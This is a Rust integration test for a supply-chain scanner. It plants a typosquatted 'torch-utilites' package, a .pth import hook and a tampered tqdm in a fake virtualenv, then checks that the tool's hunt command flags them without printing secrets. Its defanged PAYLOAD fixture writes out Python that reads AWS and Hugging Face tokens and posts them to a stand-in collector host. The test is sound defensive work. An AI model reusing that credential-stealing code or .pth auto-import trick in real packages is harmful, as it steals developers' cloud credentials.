//! The seed scenario end to end through the command line: `torch-utilites`
//! (a typosquat) installed in a venv with a credential-stealing module and a
//! `.pth` that imports it, beside benign packages, then
//! `squatch --root HOST hunt`, the README's main job. The three tables must
//! each name the attack (through the pack queries hunt runs), and no secret
//! may be printed.
//!
//! Fixtures are defanged: `.invalid` endpoints, fake `EXAMPLE` secrets, and
//! code that stops at its first line if it were ever run.

mod common;

use common::FakeHost;

const PAYLOAD: &str = r#"raise SystemExit("squatch test fixture: read as text, never run")
import os, json, urllib.request
creds = {"id": os.environ.get("AWS_ACCESS_KEY_ID"), "secret": os.environ.get("AWS_SECRET_ACCESS_KEY"), "hf": os.environ.get("HF_TOKEN")}
urllib.request.urlopen("https://collector.invalid/u", data=json.dumps(creds).encode())
open("/etc/modprobe.d/nvidia-fake.conf", "a").write("install nvidia /sbin/modprobe nvidia\n")
"#;

const FAKE_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

fn triage(fh: &FakeHost) -> Vec<serde_json::Value> {
    let out = common::squatch_command()
        .arg("--root")
        .arg(fh.root())
        .args(["hunt", "--json"])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    // 1: something at or above the default threshold (medium) was found.
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(!stdout.contains(FAKE_SECRET) && !stderr.contains(FAKE_SECRET));
    // The text report, too, prints no secret.
    let text = common::squatch_command()
        .arg("--root")
        .arg(fh.root())
        .arg("hunt")
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&text.stdout).contains(FAKE_SECRET));
    serde_json::from_str::<serde_json::Value>(&stdout).unwrap()["findings"]
        .as_array()
        .unwrap()
        .clone()
}

#[test]
fn the_seed_attack_is_named_by_every_table_and_benign_neighbours_are_not() {
    let fh = FakeHost::new();
    fh.passwd(&[("alice", 1000, "/home/alice")]);
    let site = fh.venv("/home/alice/ml/.venv", "3.12", false);
    fh.dist(&site, "torch-utilites", "0.1.0")
        .file("torch_utilites/__init__.py", b"from . import _core\n")
        .file("torch_utilites/_core.py", PAYLOAD.as_bytes())
        .file(
            "torch_utilites/config.py",
            format!("DEFAULT = {FAKE_SECRET:?}\n").as_bytes(),
        )
        .installer("pip")
        .requested()
        .write();
    fh.pth(
        &site,
        "torch_utilites_init.pth",
        "import torch_utilites._core\n",
    );
    // Benign neighbours: popular packages, one of the torch family.
    fh.dist(&site, "torch", "2.5.0")
        .file("torch/__init__.py", b"__version__ = '2.5.0'\n")
        .installer("pip")
        .write();
    fh.dist(&site, "torchvision", "0.20.0")
        .file("torchvision/__init__.py", b"import torch\n")
        .installer("pip")
        .write();
    // The attacker also tampers with a benign package after install.
    let tqdm = fh
        .dist(&site, "tqdm", "4.66.0")
        .file("tqdm/__init__.py", b"__all__ = []\n")
        .installer("pip")
        .write();
    fh.modify(&tqdm.file("tqdm/__init__.py"), b"import torch_utilites\n");

    let rows = triage(&fh);
    let by = |query: &str, package: &str| {
        rows.iter()
            .filter(|r| {
                r["query"] == query
                    && r["packages"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|p| p == package)
            })
            .collect::<Vec<_>>()
    };
    let squat = by("typosquat_installed", "torch-utilites");
    assert_eq!(squat.len(), 1, "{rows:#?}");
    assert!(squat[0]["details"][0]
        .as_str()
        .unwrap()
        .contains("imitates torch"));
    let findings = by("install_findings_high", "torch-utilites");
    assert!(
        findings.iter().any(|r| r["severity"] == "critical"),
        "{rows:#?}"
    );
    let changed = by("package_record_mismatch", "tqdm");
    assert_eq!(changed.len(), 1, "{rows:#?}");
    assert!(changed[0]["details"][0]
        .as_str()
        .unwrap()
        .starts_with("modified: 1 modified"));
    for benign in ["torch", "torchvision"] {
        assert!(
            rows.iter().all(|r| !r["packages"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p == benign)),
            "{benign} flagged: {rows:#?}"
        );
    }
    // Worst first: every stage's findings run from critical down.
    assert_eq!(rows[0]["severity"], "critical");
}
